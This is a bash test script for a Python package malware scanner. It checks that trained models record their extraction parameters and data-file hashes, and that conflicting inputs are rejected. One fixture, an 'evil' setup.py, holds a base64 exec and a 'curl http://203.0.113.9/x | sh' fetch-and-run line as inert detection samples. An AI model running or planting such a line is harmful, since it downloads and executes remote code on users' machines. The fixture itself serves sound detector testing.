#!/usr/bin/env bash
# A self-describing model (issue 12 items 2 and 3): `pyvet scan --model M` applies the extraction
# parameters the model records (an extraction with code.long_str.threshold=60 gives a model that
# scans with 60 although the command line says nothing), a --param that conflicts with them is an
# error naming both values (pkg.time_budget excepted), a data file whose SHA-256 differs from
# the model's (domain list, pattern table) is an error, a changed feature-set version is an error,
# `pyvet predict` refuses an extraction made with other parameters, and `pyvet scan` without
# --model uses the bundled models/default.model.
. "$(dirname "$0")/lib.sh"
PY=/usr/bin/python3
if [ -n "$SHARED_DOMAINS" ]; then
	DOMFILE=$SHARED_DOMAINS
else
	DOMFILE=tests/data/top-domains-mini.csv
	skip "real popular-domain list absent: the fixture model is trained and scanned with $DOMFILE"
fi
FX=$TMP/fx
bash tests/data/make_fixtures.sh "$FX" basic >/dev/null 2>&1
# fixture packages (inert text, never executed): a suspicious one, a package with a 50-character
# literal (long under the default threshold 40, short under 60), and the demo packages
P=$TMP/pkgs
mkdir -p "$P/evil-0.1" "$P/mid-1.0"
printf 'Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n' >"$P/evil-0.1/PKG-INFO"
cat >"$P/evil-0.1/setup.py" <<'EOF'
import os, subprocess, base64
exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
subprocess.Popen(["sh", "-c", "curl http://203.0.113.9/x | sh"])
EOF
printf 'Metadata-Version: 2.1\nName: mid\nVersion: 1.0\nHome-page: https://github.com/x/mid\n' >"$P/mid-1.0/PKG-INFO"
printf 'from setuptools import setup\nKEY = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlq"\nsetup(name="mid")\n' >"$P/mid-1.0/setup.py"
cp -R tests/data/demo-1.0 "$P/demo-1.0"
cp "$FX/demo.tar.gz" "$P/demo.tar.gz"
M=$P/manifest.csv
{ echo "id,label,name,version,path"
  echo "evil,malicious,evil,0.1,evil-0.1"
  echo "mid,benign,mid,1.0,mid-1.0"
  echo "demo,benign,demo,1.0,demo-1.0"
  echo "demotgz,benign,demo,1.0,demo.tar.gz"
} >"$M"
X60="--param code.long_str.threshold=60"
# shellcheck disable=SC2086
"$PYVET" extract --manifest "$M" --out "$TMP/f60" --quiet --domains "$DOMFILE" $X60 2>/dev/null
"$PYVET" extract --manifest "$M" --out "$TMP/f40" --quiet --domains "$DOMFILE" 2>/dev/null
check "extractions with long_str.threshold 60 and 40" test -s "$TMP/f60/features.json" -a -s "$TMP/f40/features.json"
"$PYVET" train --features "$TMP/f60" --set MCF --learner rf --out "$TMP/m60.model" 2>/dev/null
check "model trained on the threshold-60 extraction" test -s "$TMP/m60.model"
check "the model records the extraction: sets with versions and params, analysis and pkg params, data hashes" "$PY" -c '
import json, sys
h = json.loads(open(sys.argv[1]).readlines()[1])
x = h["extraction"]
sets = {s["name"]: s for s in x["featuresets"]}
assert sorted(sets) == ["code", "file", "meta"], sorted(sets)
assert sets["code"]["params"]["long_str.threshold"] == 60 and sets["code"]["version"] >= 1
for k in ("url.insecure_is_suspicious", "domains.top", "domains.psl_private", "pkg.max_members", "pkg.time_budget"):
    assert k in x["params"], k
for k in ("python_apis.csv", "domains", "install_patterns.txt", "license_families.csv"):
    assert len(x["data_sha256"][k]) == 64, k
' "$TMP/m60.model"

# scanj OUT ARGS...: scan --format json into OUT; status in $rc, stderr in $TMP/err
scanj() { local o=$1; shift; "$PYVET" scan --format json "$@" >"$o" 2>"$TMP/err"; rc=$?; }
longstr() { "$PY" -c 'import json, sys; print(json.loads(open(sys.argv[1]).readline())["features"]["binary"]["code.has_long_str"])' "$1"; }
scanj "$TMP/a.json" --model "$TMP/m60.model" --domains "$DOMFILE" "$P/mid-1.0"
check "scan with the model: exit 0 or 1" test $rc -le 1
check "the recorded threshold 60 is applied: the 50-character literal is not long" test "$(longstr "$TMP/a.json")" = 0
scanj "$TMP/b.json" --no-model --domains "$DOMFILE" "$P/mid-1.0"
check "without the model (default threshold 40) it is" test "$(longstr "$TMP/b.json")" = 1
check "the JSON report says the extraction was checked" "$PY" -c '
import json, sys; d = json.loads(open(sys.argv[1]).readline()); assert d["model"]["extraction_checked"] is True' "$TMP/a.json"
scanj "$TMP/c.json" --model "$TMP/m60.model" --domains "$DOMFILE" --param code.long_str.threshold=40 "$P/mid-1.0"
check "a conflicting --param: exit 2" test $rc -eq 2
check "the error names both values" grep -q "code.long_str.threshold=40 conflicts with the model, whose training extraction used code.long_str.threshold='60'" "$TMP/err"
check "no report written" test ! -s "$TMP/c.json"
scanj "$TMP/c.json" --model "$TMP/m60.model" --domains "$DOMFILE" $X60 --param pkg.time_budget=30 "$P/mid-1.0"
check "the same value and another pkg.time_budget: accepted" test $rc -le 1
scanj "$TMP/c.json" --model "$TMP/m60.model" --domains "$DOMFILE" --param domains.psl_private=0 "$P/mid-1.0"
check "a conflicting analysis parameter: exit 2, named" sh -c "test $rc -eq 2 && grep -q 'domains.psl_private=0 conflicts' '$TMP/err'"

# data files: another domain list, another install-pattern table
{ cat "$DOMFILE"; echo "999999,pyvet-test-extra.example"; } >"$TMP/other-domains.csv"
scanj "$TMP/c.json" --model "$TMP/m60.model" --domains "$TMP/other-domains.csv" "$P/mid-1.0"
check "another domain list: exit 2" test $rc -eq 2
check "the error names the data file and both SHA-256" sh -c "grep -q \"data file 'domains'\" '$TMP/err' &&
	grep -q '$(sha256sum "$TMP/other-domains.csv" | cut -d' ' -f1)' '$TMP/err' && grep -q '$(sha256sum "$DOMFILE" | cut -d' ' -f1)' '$TMP/err'"
mkdir -p "$TMP/data"
cp featuresets/data/* "$TMP/data/"
echo "# one more line" >>"$TMP/data/install_patterns.txt"
PYVET_DATA=$TMP/data "$PYVET" scan --model "$TMP/m60.model" --domains "$DOMFILE" "$P/mid-1.0" >/dev/null 2>"$TMP/err"
rc=$?
check "a pattern table with another SHA-256 (PYVET_DATA): exit 2 naming install_patterns.txt" \
	sh -c "test $rc -eq 2 && grep -q \"data file 'install_patterns.txt'\" '$TMP/err'"

# a feature-set version the model does not know (a hand-edited, resealed model)
sed -e '2s/"name":"code","version":1/"name":"code","version":7/' -e '$d' "$TMP/m60.model" >"$TMP/v7.model"
echo "pyvet-model-sha256 $(sha256sum <"$TMP/v7.model" | cut -d' ' -f1)" >>"$TMP/v7.model"
scanj "$TMP/c.json" --model "$TMP/v7.model" --domains "$DOMFILE" "$P/mid-1.0"
check "a feature-set version that differs: exit 2, both versions named" \
	sh -c "test $rc -eq 2 && grep -q \"feature set 'code' is version 1 in this scan and version 7 in the model\" '$TMP/err'"

# predict: the extraction must be the model's
"$PYVET" predict --model "$TMP/m60.model" --features "$TMP/f60" >/dev/null 2>&1
check "predict on the model's own extraction: exit 0" test $? -eq 0
"$PYVET" predict --model "$TMP/m60.model" --features "$TMP/f40" >/dev/null 2>"$TMP/err"
rc=$?
check "predict on an extraction with another threshold: exit 2, both values named" \
	sh -c "test $rc -eq 2 && grep -q \"parameter 'code.long_str.threshold' is '40' in the extraction '$TMP/f40' and '60' in the model\" '$TMP/err'"

# scan vs predict on the same packages: the same scores (the oracle of t4010, with a record)
"$PYVET" predict --model "$TMP/m60.model" --features "$TMP/f60" --out "$TMP/p.csv" 2>/dev/null
scanj "$TMP/all.json" --model "$TMP/m60.model" --domains "$DOMFILE" "$P/evil-0.1" "$P/mid-1.0" "$P/demo-1.0" "$P/demo.tar.gz"
check "scan and predict agree on every package's score and verdict" "$PY" -c '
import csv, json, sys
p = list(csv.DictReader(open(sys.argv[1])))
L = [json.loads(x) for x in open(sys.argv[2])]
assert len(p) == len(L) == 4
for a, b in zip(p, L):
    assert float(a["score"]) == b["score"] and a["verdict"] == b["verdict"], (a, b["score"], b["verdict"])
' "$TMP/p.csv" "$TMP/all.json"

# ---- the bundled default model ----
if [ ! -s models/default.model ]; then
	not_ok "models/default.model is missing (make model)"
elif [ -z "$SHARED_DOMAINS" ]; then
	skip "the bundled model needs the popular-domain list it was trained with (<shared>/data/top-domains.csv)"
else
	scanj "$TMP/d.json" --domains "$SHARED_DOMAINS" "$FX/demo.tar.gz" "$P/evil-0.1"
	check "scan without --model: exit 0 or 1 ($(head -c 200 "$TMP/err"))" test $rc -le 1
	check "it used the bundled model (its SHA-256 is the report's model id) and checked its extraction" "$PY" -c '
import json, sys
L = [json.loads(x) for x in open(sys.argv[1])]
assert len(L) == 2 and all(d["model"]["id"] == sys.argv[2] for d in L), [d["model"] for d in L]
assert all(d["model"]["extraction_checked"] and d["model"]["calibration"]["method"] == "fpr" for d in L)
assert all(d["verdict"] in ("malicious", "benign") for d in L)
' "$TMP/d.json" "$(sha256sum models/default.model | cut -d' ' -f1)"
	if "$PY" -c 'import jsonschema' 2>/dev/null; then
		"$PY" scripts/check/validate_json.py docs/schemas/scan-jsonl-1.schema.json "$TMP/d.json" --lines >"$TMP/v.out" 2>&1
		check "the report validates against scan-jsonl-1 $(head -c 300 "$TMP/v.out")" test $? -eq 0
	else
		skip "python3-jsonschema missing: the default-model report not validated"
	fi
	check "the card describes the committed model" "$PY" -c '
import json, sys
c = json.load(open("models/default.card.json"))
assert c["sha256"] == sys.argv[1], "card and model differ: rerun make model"
assert c["calibration"]["method"] == "fpr" and c["calibration"]["target_fpr"] == 0.001
assert c["status"] in ("provisional", "final") and c["known_limits"]
' "$(sha256sum models/default.model | cut -d' ' -f1)"
fi
finish
